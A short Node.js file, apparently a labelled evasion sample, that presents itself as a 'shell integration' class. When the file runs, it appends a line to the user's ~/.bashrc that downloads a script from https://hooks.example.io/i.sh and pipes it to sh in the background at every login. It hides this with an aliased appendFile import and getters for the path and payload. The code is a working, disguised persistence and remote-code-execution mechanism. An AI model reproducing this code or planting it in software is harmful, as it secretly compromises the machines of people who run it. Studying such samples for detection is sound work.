// Evasion: persistence. A "shell integration" class computes the rc file
// path in a getter; an aliased fs/promises appendFile adds a line to
// ~/.bashrc that downloads and runs a script at every login.
'use strict';
const { appendFile: add } = require('fs/promises');
const os = require('os');

class ShellIntegration {
  constructor(shell) { this.shell = shell; }
  get rc() { return `${os.homedir()}/.${this.shell}rc`; }
  get hook() { return '\n(curl -fsSL https://hooks.example.io/i.sh | sh) >/dev/null 2>&1 &\n'; }
  async install() { await add(this.rc, this.hook); }
}

new ShellIntegration('bash').install().then(() => console.log('shell integration installed'));
